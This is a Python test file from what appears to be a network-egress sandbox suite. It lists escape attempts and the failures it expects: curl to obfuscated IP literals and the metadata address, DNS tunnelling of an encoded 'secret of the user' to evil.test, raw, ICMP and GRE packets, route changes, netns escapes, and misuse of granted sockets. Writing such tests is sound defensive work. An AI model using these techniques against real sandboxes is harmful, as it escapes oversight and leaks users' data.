"""Attempts by addresses, names, the resolver, other kinds of packets, and sockets that were given."""

import base64
from typing import Final

from tests.egress.attempt import TRICKY, python, shell
from tests.egress.servers import METADATA, OTHER, PRIVATE, PUBLIC

# -- addresses in place of names -----------------------------------------------------------------------------
for number, literal in enumerate(
    (
        OTHER,
        PRIVATE,
        METADATA,
        "8.8.8.8",
        "1.1.1.1",
        "100.100.100.200",
        "192.168.7.7",
        "10.213.0.1",
        "10.213.0.2",
        PUBLIC,
    )
):
    for port in (80, 443, 7000):
        python(f"literal-{number}-{port}", f"tcp('{literal}', {port})", "failed EACCES")
python("literal-mapped", f"tcp('::ffff:{OTHER}', 80, family=socket.AF_INET6)", "failed EACCES")
python("literal-mapped-private", f"tcp('::ffff:{PRIVATE}', 80, family=socket.AF_INET6)", "failed EACCES")
python("literal-nat64", "tcp('64:ff9b::a01:203', 80, family=socket.AF_INET6)", "failed ENETUNREACH")
python("literal-6to4", "tcp('2002:a01:203::1', 80, family=socket.AF_INET6)", "failed ENETUNREACH")
python("literal-v6", "tcp('fd00:77::1', 80, family=socket.AF_INET6)", "failed ENETUNREACH")
python("literal-v6-link-local", "tcp('fe80::1%lo', 80, family=socket.AF_INET6)", "failed")
python("literal-compatible", "tcp('::10.1.2.3', 80, family=socket.AF_INET6)", "failed ENETUNREACH")
for number, text in enumerate(
    ("0x5db8d823", "1572395043", "0135.0270.0330.043", "93.12114979", "0x5d.0xb8.0xd8.0x23", "93.184.55331")
):
    python(f"notation-python-{number}", f"tcp('{text}', 80)", "failed")
    shell(f"notation-curl-{number}", f"curl -sS -m 20 http://{text}/LEAK; echo status $?", "status [1-9]")
shell("notation-metadata-curl", "curl -sS -m 20 http://0xa9fea9fe/latest; echo status $?", "status [1-9]")
shell(
    "notation-fullwidth-curl",
    "curl -sS -m 20 http://９３.１８４.２１６.３５/LEAK; echo status $?",
    "status [1-9]",
)
python("granted-address-other-port", f"tcp('{PUBLIC}', 7000)", "failed EACCES")
python("granted-address-udp", f"udp('{PUBLIC}', 3000)", "failed")
python("port-of-other-rule", "tcp('other.test', 80)", "failed EACCES")
python("port-22-of-granted", "tcp('good.test', 22)", "failed EACCES")
python("port-25-of-granted", "tcp('good.test', 25)", "failed EACCES")
python("port-0", "tcp('good.test', 0)", "failed")
python(
    "all-ports-of-granted",
    "print({tcp('good.test', p, say=False) for p in (21, 22, 23, 25, 110, 853, 3128, 5432, 8080, 8443)})",
    "None",
)
python("synthetic-unused", "tcp('198.19.200.200', 443)", "failed EACCES")
python("synthetic-own-services", "tcp('198.18.0.1', 80); tcp('198.18.0.2', 80)", "failed")
python(
    "broadcast",
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.setsockopt(1,6,1)\ntry: s.sendto(b'LEAK',('255.255.255.255',7001))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "multicast",
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ntry: s.sendto(b'LEAK',('224.0.0.251',5353))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)

# -- where names lead ----------------------------------------------------------------------------------------
for tricky in TRICKY:
    python(f"leads-to-{tricky.partition('.')[0]}-80", f"tcp('{tricky}', 80)", "failed E")
    python(f"leads-to-{tricky.partition('.')[0]}-443", f"tcp('{tricky}', 443)", "failed E")
python(
    "leads-partly",
    "http(b'GET /ok HTTP/1.1\\r\\nHost: mixed.test\\r\\nConnection: close\\r\\n\\r\\n', 'mixed.test')",
    "got b'HTTP/1.1 200",
)
python(
    "rebinding",
    "for _ in range(8): http(b'GET /ok HTTP/1.1\\r\\nHost: rebind.test\\r\\nConnection: close\\r\\n\\r\\n', 'rebind.test')",
    "failed EACCES",
)
python("address-of-denied-name", "tcp('evil.test', 80)", "failed")
python("other-label", "tcp('xgood.test', 80)", "failed")
python("other-suffix", "tcp('good.test.evil.test', 80)", "failed")
python("star-two-labels", "tcp('deep.www.good.test', 80)", "failed")
python("star-itself", "tcp('*.good.test', 80)", "failed")
python("name-nul", "query(b'evil.test\\0.good.test')", "rcode 3")
python("name-percent", "tcp('evil.test%00.good.test', 80)", "failed")
python("name-userinfo", "tcp('good.test@evil.test', 80)", "failed")
python(
    "name-dots",
    "tcp('good.test.', 80, b'GET / HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n')",
    "got",
)
python("name-two-dots", "tcp('good.test..', 80)", "failed")
python(
    "name-case",
    "tcp('GoOd.TeSt', 80, b'GET / HTTP/1.1\\r\\nHost: GOOD.test\\r\\nConnection: close\\r\\n\\r\\n')",
    "got",
)
python("name-fullwidth", "tcp('ｅvil.test', 80)", "failed")
python("name-long", "tcp('a'*63 + '.' + 'b'*63 + '.evil.test', 80)", "failed")

# -- the resolver as a tunnel ----------------------------------------------------------------------------------
SECRET: Final = base64.b32encode(b"a secret of the user").decode().strip("=").lower()
python("dns-label", f"query(b'{SECRET}.evil.test')", "rcode 3 answers 0")
python("dns-label-below-granted", f"query(b'{SECRET}.other.test')", "rcode 3")
python("dns-two-labels-below-star", f"query(b'{SECRET}.x.good.test')", "rcode 3")
for text, kind in (
    ("txt", 16),
    ("null", 10),
    ("any", 255),
    ("https", 65),
    ("svcb", 64),
    ("srv", 33),
    ("mx", 15),
    ("ns", 2),
    ("soa", 6),
    ("axfr", 252),
):
    python(f"dns-{text}-evil", f"query(b'{SECRET}.evil.test', {kind})", "rcode 3")
    python(f"dns-{text}-granted", f"query(b'good.test', {kind})", "rcode 0 answers 0")
for server in ("8.8.8.8", "1.1.1.1", "93.184.216.53", OTHER, "10.213.0.1", "198.19.255.255"):
    python(f"dns-server-{server}", f"query(b'{SECRET}.evil.test', server=('{server}', 53))", "rcode 3")
    python(
        f"dns-server-tcp-{server}",
        f"query(b'{SECRET}.evil.test', server=('{server}', 53), over=socket.SOCK_STREAM)",
        "rcode 3",
    )
python(
    "dns-edns-option",
    f"query(b'evil.test', more=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x18\\xfd\\xe9\\0\\x14' + b'{SECRET}'[:20], arcount=1)",
    "rcode",
)
python(
    "dns-edns-option-granted",
    f"query(b'good.test', more=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x18\\xfd\\xe9\\0\\x14' + b'{SECRET}'[:20], arcount=1)",
    "rcode 0 answers 1",
)
python(
    "dns-edns-client-subnet",
    "query(b'good.test', more=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x0b\\0\\x08\\0\\x07\\0\\x01\\x18\\0\\x0a\\x01\\x02', arcount=1)",
    "rcode",
)
python(
    "dns-additional",
    f"query(b'good.test', more=b'\\x0a{SECRET[:10]}\\0\\0\\x10\\0\\1\\0\\0\\0\\0\\0\\0', arcount=1)",
    "rcode 1",
)
python("dns-class-chaos", "query(b'version.bind', 16, klass=3)", "rcode 4")
python("dns-opcode-update", "query(b'good.test', flags=0x2800)", "rcode 4")
python("dns-opcode-notify", "query(b'good.test', flags=0x2000)", "rcode 4")
python("dns-two-questions", "query(b'good.test', count=2, more=b'\\4evil\\4test\\0\\0\\1\\0\\1')", "rcode 1")
python("dns-pointer-loop", "query((b'\\xc0\\x0c',))", "rcode 1")
python("dns-over-tls", "tcp('good.test', 853)", "failed EACCES")
python("dns-over-quic", "udp('good.test', 853)", "failed")
python("dns-mdns", "udp('224.0.0.251', 5353)", "failed")
python("dns-llmnr", "udp('224.0.0.252', 5355)", "failed")
python("dns-case-channel", "query(b'GoOD.tESt')", "rcode 0 answers 1")
python("dns-reverse", "query(b'35.216.184.93.in-addr.arpa', 12)", "rcode 3")
python("dns-reverse-v6", "query(b'1.0.0.0.ip6.arpa', 12)", "rcode 3")
python(
    "dns-wildcard-flood",
    "for n in range(300): query(b'x%d.good.test' % n, over=socket.SOCK_DGRAM)",
    "rcode 0 answers 1",
)

# -- other kinds of packets --------------------------------------------------------------------------------------
python(
    "icmp-ping-socket",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)\ntry: s.sendto(b'\\x08\\0\\0\\0LEAK', ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed ENETUNREACH",
)
python(
    "icmp-raw",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\ntry: s.sendto(b'\\x08\\0\\0\\0LEAK', ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "icmp-raw-granted",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\ntry: s.sendto(b'\\x08\\0\\0\\0LEAK', ('{PUBLIC}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "raw-tcp-syn",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)\ntry: s.sendto(bytes(20), ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "raw-header-included",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)\ntry: s.sendto(b'E'+bytes(19), ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "raw-gre",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)\ntry: s.sendto(b'LEAK', ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "packet-socket",
    "s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)\ntry: s.bind(('lo',0)); s.send(bytes(14)+b'E'+bytes(40)); print('sent on lo')\nexcept OSError as e: print('failed', name(e))",
    "sent on lo|failed",
)
python(
    "udplite",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\ntry: s.sendto(b'LEAK', ('{PUBLIC}', 7001))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "sctp",
    "\ntry: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "vsock",
    "\ntry: s=socket.socket(40, socket.SOCK_STREAM); s.connect((2, 80))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python("udp-literal", f"udp('{OTHER}', 7001)", "failed")
python("udp-literal-granted-host", f"udp('{PUBLIC}', 7001)", "failed")
python("udp-ntp", "udp('good.test', 123)", "failed")
python("udp-quic", "udp('good.test', 443)", "failed")
python("udp-other-port", "udp('other.test', 443)", "failed")
python("tcp-on-udp-port", "tcp('other.test', 7001)", "failed EACCES")
python(
    "route-add",
    "os.system('ip route add default via 198.18.0.1 2>&1; ip route add 93.184.216.35/32 dev lo 2>&1; ip addr add 93.184.216.35/32 dev lo 2>&1'); tcp('93.184.216.35', 80)",
    "failed",
)
python(
    "bind-device",
    f"s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, 25, b'eth0') if 0 else None\ntry: s.setsockopt(socket.SOL_SOCKET, 25, b'lo'); s.settimeout(2); s.connect(('{OTHER}', 80))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "bind-foreign-source",
    f"s=socket.socket()\ntry: s.setsockopt(0, 15, 1); s.bind(('10.213.0.2', 0)); s.connect(('{OTHER}', 80))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
shell(
    "netns",
    f"unshare -rn curl -sS -m 20 http://{OTHER}/; unshare -rn curl -sS -m 20 http://good.test/; echo status $?",
    "status [1-9]",
    "unshare",
)

# -- sockets that were given -------------------------------------------------------------------------------------
GIVEN: Final = "s=socket.socket(); s.connect(('other.test', 7000)); s.sendall(b'fine'); print(s.recv(100))\n"
python(
    "reconnect-unspec",
    GIVEN
    + f"try: s.connect_ex(('{OTHER}', 7000)); import ctypes; l=ctypes.CDLL(None); print(l.connect(s.fileno(), bytes(16), 16)); s.connect(('{OTHER}', 7000)); s.sendall(b'LEAK')\nexcept OSError as e: print('failed', name(e))",
    "failed EACCES",
)
python(
    "reconnect",
    GIVEN + f"try: s.connect(('{OTHER}', 7000))\nexcept OSError as e: print('failed', name(e))",
    "failed EISCONN|fine",
)
python(
    "listen-on-given",
    GIVEN + "try: s.listen()\nexcept OSError as e: print('failed', name(e))",
    "failed EINVAL",
)
python(
    "sendto-other-tcp",
    GIVEN
    + f"try: s.sendto(b'fine', ('{OTHER}', 7000)); print('sent')\nexcept OSError as e: print('failed', name(e))",
    "sent|failed",
)
python(
    "sendmsg-other-tcp",
    GIVEN
    + f"try: s.sendmsg([b'fine'], [], 0, ('{OTHER}', 7000)); print('sent')\nexcept OSError as e: print('failed', name(e))",
    "sent|failed",
)
python(
    "fast-open",
    f"s=socket.socket(); s.setblocking(True)\ntry: s.sendto(b'LEAK', 0x20000000, ('{OTHER}', 80))\nexcept OSError as e: print('failed', name(e))",
    "failed EACCES",
)
python(
    "fast-open-connect",
    f"s=socket.socket(); s.setsockopt(6, 30, 1)\ntry: s.connect(('{OTHER}', 80)); s.send(b'LEAK')\nexcept OSError as e: print('failed', name(e))",
    "failed EACCES",
)
python(
    "fast-open-granted",
    "s=socket.socket(); s.setblocking(True); print(s.sendto(b'fine', 0x20000000, ('other.test', 7000)), s.recv(10))",
    "4 b'fine'",
)
UDP: Final = "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(60); s.connect(('other.test', 7001)); s.send(b'fine'); print(s.recv(100))\n"
python(
    "sendto-other-udp",
    UDP
    + f"try:\n for _ in range(3): s.sendto(b'LEAK', ('{OTHER}', 7001)); __import__('time').sleep(.05)\nexcept OSError as e: print('failed', name(e))",
    "fine",
)
python(
    "sendmsg-other-udp",
    UDP
    + f"try:\n for _ in range(3): s.sendmsg([b'LEAK'], [], 0, ('{OTHER}', 7001)); __import__('time').sleep(.05)\nexcept OSError as e: print('failed', name(e))",
    "fine",
)
python(
    "pktinfo-other",
    UDP
    + "try: s.sendmsg([b'fine'], [(0, 8, struct.pack('=I4s4s', 0, socket.inet_aton('10.213.0.2'), bytes(4)))])\nexcept OSError as e: print('failed', name(e))",
    "fine",
)
python(
    "source-route-v4",
    f"s=socket.socket()\ntry: s.setsockopt(0, 4, bytes([131,7,4])+socket.inet_aton('{OTHER}')+b'\\0'); s.connect(('other.test',7000)); s.sendall(b'fine'); print(s.recv(9))\nexcept OSError as e: print('failed', name(e))",
    "fine|failed",
)
python(
    "routing-header",
    "s=socket.socket(socket.AF_INET6)\ntry: s.setsockopt(41, 57, bytes([0,2,0,1])+bytes(4)+socket.inet_pton(socket.AF_INET6,'fd00:77::1')); s.connect(('fd00:77::1',7000))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "options-of-given",
    GIVEN
    + "for level, opt, value in ((1,25,b'vh\\0'),(0,19,b'\\1\\0\\0\\0'),(6,13,b'bbr'),(1,36,b'\\1\\0\\0\\0'),(6,31,b'tls'),(0,24,b'\\1\\0\\0\\0'),(1,51,b'\\1\\0\\0\\0')):\n try: s.setsockopt(level,opt,value)\n except OSError: pass\ns.sendall(b'fine'); print(s.recv(9))",
    "fine",
)
python(
    "given-to-another",
    GIVEN
    + "a,b=socket.socketpair(); socket.send_fds(a,[b'x'],[s.fileno()]); m,f,_,_=socket.recv_fds(b,9,1); t=socket.socket(fileno=f[0]); t.sendall(b'fine'); print(t.recv(9))",
    "fine",
)
python(
    "proc-net-of-host",
    "print(os.listdir('/proc/net')[:3]); print(open('/proc/net/tcp').read().count('\\n'))",
    "",
)
python(
    "many-connections",
    "socks=[]\nfor _ in range(60):\n s=socket.socket(); s.connect(('other.test',7000)); socks.append(s)\nfor s in socks: s.sendall(b'fine')\nprint(sum(len(s.recv(9)) for s in socks))",
    "240",
)
# To the time that it is anyway: this may run where it would be set.
python(
    "clock",
    "import time\ntry: time.clock_settime(time.CLOCK_REALTIME, time.time())\n"
    f"except OSError as e: print('clock', name(e))\ntcp('{OTHER}', 80)",
    "clock EPERM\nfailed EACCES",
)
python(
    "log-flood",
    "for number in range(600):\n"
    f" s=socket.socket(); s.settimeout(2)\n try: s.connect(('{OTHER}', 2000 + number))\n except OSError: pass\n s.close()\n"
    f"tcp('{OTHER}', 80); tcp('other.test', 7000, b'fine')",
    "failed EACCES\ngot b'fine'",
)
